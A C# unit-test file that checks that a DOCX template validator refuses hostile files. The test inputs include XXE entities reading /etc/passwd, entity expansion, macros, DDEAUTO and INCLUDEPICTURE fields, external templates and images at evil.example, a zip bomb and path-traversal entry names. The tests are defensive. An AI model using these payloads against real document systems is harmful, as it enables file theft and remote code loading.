using System.IO.Compression;
using System.Text;
using Zhijian.Platform.Documents;
using static Zhijian.Tests.Platform.Documents.TestDocx;

namespace Zhijian.Tests.Platform.Documents;

public sealed class HostileTemplateTests
{
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private const string Relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static readonly byte[] Good = Make(P("{{甲}}"), footer: P("第"));

    private static void Refused(byte[] file, string because)
    {
        var report = DocxTemplate.Inspect(new MemoryStream(file));
        Assert.False(report.Usable);
        Assert.Contains(report.Problems, p => p.Contains(because, StringComparison.Ordinal));
        Assert.Equal(report.Problems, Assert.Throws<DocxTemplateException>(() => DocxTemplate.Load(file)).Problems);
    }

    private static byte[] WithRelation(string type, string target, string mode = "") =>
        With(Good, "word/_rels/document.xml.rels", Part(Good, "word/_rels/document.xml.rels").Replace("</Relationships>", $"<Relationship Id=\"bad\" Type=\"{Relationships}{type}\" Target=\"{target}\" {mode}/></Relationships>", StringComparison.Ordinal));

    [Fact]
    public void The_good_one_is_accepted() => Assert.Empty(DocxTemplate.Inspect(new MemoryStream(Good)).Problems);

    [Theory]
    [InlineData("<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("<!DOCTYPE w:document [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>")]
    [InlineData("<!DOCTYPE w:document>")]
    public void Dtd(string declaration) => Refused(With(Good, "word/document.xml", $"{declaration}<w:document {W}><w:body/></w:document>"), "DTD");

    [Theory]
    [InlineData("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "宏")]
    [InlineData("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", "嵌入对象")]
    [InlineData("word/embeddings/book.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "嵌入对象")]
    [InlineData("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "嵌入对象")]
    [InlineData("word/chunk.html", "text/html", "不允许")]
    [InlineData("word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "字体")]
    [InlineData("word/media/image1.wmf", "image/x-wmf", "不允许")]
    [InlineData("word/unknown.xyz", "", "不允许")]
    public void Parts_that_a_paper_does_not_need(string part, string type, string because) => Refused(With(Good, part, "<x/>", type), because);

    [Fact]
    public void A_macro_document_with_another_ending() =>
        Refused(With(Good, "[Content_Types].xml", Part(Good, "[Content_Types].xml").Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal)), "宏");

    [Theory]
    [InlineData("attachedTemplate", "http://evil.example/x.dotm", "TargetMode=\"External\"", "外部 Word 模板")]
    [InlineData("attachedTemplate", "file:///x.dotm", "", "外部 Word 模板")]
    [InlineData("image", "http://evil.example/x.png", "TargetMode=\"External\"", "文件外")]
    [InlineData("image", "\\\\\\\\evil\\\\x.png", "TargetMode=\"External\"", "文件外")]
    [InlineData("image", "//evil/x.png", "", "文件外")]
    [InlineData("hyperlink", "https://example.org", "TargetMode=\"External\"", "取消超链接")]
    [InlineData("aFChunk", "chunk.xml", "", "不允许")]
    public void Relations_to_outside(string type, string target, string mode, string because) => Refused(WithRelation(type, target, mode), because);

    [Theory]
    [InlineData("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", "DDEAUTO")]
    [InlineData("<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://evil.example/x&quot; \"/></w:p>", "INCLUDEPICTURE")]
    [InlineData("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DATE </w:instrText></w:r></w:p>", "DATE")]
    [InlineData("<w:p><w:r><w:object/></w:r></w:p>", "object")]
    [InlineData("<w:altChunk r:id=\"x\"/>", "altChunk")]
    [InlineData("<w:p><w:r><w:pict><v:shape><v:imagedata src=\"http://evil.example/x.png\"/></v:shape></w:pict></w:r></w:p>", "文件外的图片")]
    [InlineData("<w:p><w:ins w:id=\"1\" w:author=\"x\"><w:r><w:t>x</w:t></w:r></w:ins></w:p>", "修订")]
    public void Content_that_reaches_out_or_is_not_settled(string body, string because) => Refused(Make(body), because);

    [Fact]
    public void Page_numbers_are_allowed() =>
        Assert.True(DocxTemplate.Inspect(new MemoryStream(Make("<w:p><w:fldSimple w:instr=\" PAGE \"/><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> NUMPAGES  \\\\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"))).Usable);

    [Fact]
    public void Nested_without_end() =>
        Refused(With(Good, "word/document.xml", $"<w:document {W}><w:body>{string.Concat(Enumerable.Repeat("<w:p>", 5000))}{string.Concat(Enumerable.Repeat("</w:p>", 5000))}</w:body></w:document>"), "嵌套过深");

    [Fact]
    public void Zip_bomb() => Refused(Zip(zip =>
    {
        using var stream = zip.CreateEntry("word/document.xml").Open();
        var zeros = new byte[1 << 20];
        for (var i = 0; i < 60; i++) stream.Write(zeros);
    }), "解压后超过");

    [Fact]
    public void Thousands_of_entries() => Refused(Zip(zip => { for (var i = 0; i < 600; i++) zip.CreateEntry($"x{i}.xml"); }), "超过 500 个");

    [Theory]
    [InlineData("../evil.xml")]
    [InlineData("/etc/evil.xml")]
    [InlineData("word\\evil.xml")]
    public void Names_that_leave_the_file(string name) => Refused(Zip(zip => zip.CreateEntry(name)), "文件名不合规");

    [Fact]
    public void The_same_part_twice() => Refused(Zip(zip => { zip.CreateEntry("word/document.xml"); zip.CreateEntry("WORD/document.xml"); }), "重复");

    [Theory]
    [InlineData("", "不是 .docx")]
    [InlineData("MZ\u0090", "不是 .docx")]
    [InlineData("PK\u0003\u0004broken", "损坏")]
    [InlineData("{\\rtf1}", "不是 .docx")]
    public void Not_a_docx_at_all(string content, string because) => Refused(Encoding.Latin1.GetBytes(content), because);

    [Fact]
    public void Encrypted_or_old() => Refused([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1], "加密");

    [Fact]
    public void Too_large() => Refused(new byte[(5 << 20) + 1], "超过 5 MB");

    [Fact]
    public void Cut_anywhere_it_is_refused_and_never_crashes()
    {
        for (var length = 0; length < Good.Length; length += 37) Assert.False(DocxTemplate.Inspect(new MemoryStream(Good[..length])).Usable);
    }

    [Fact]
    public void With_any_byte_changed_it_is_refused_or_can_be_filled()
    {
        for (var at = 0; at < Good.Length; at += 5)
        {
            var changed = (byte[])Good.Clone();
            changed[at] ^= 0x55;
            if (DocxTemplate.Inspect(new MemoryStream(changed)).Usable) Assert.NotEmpty(DocxTemplate.Load(changed).Fill(new() { { "甲", "值" } }));
        }
    }

    private static byte[] Zip(Action<ZipArchive> fill)
    {
        var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true)) fill(zip);
        return stream.ToArray();
    }
}
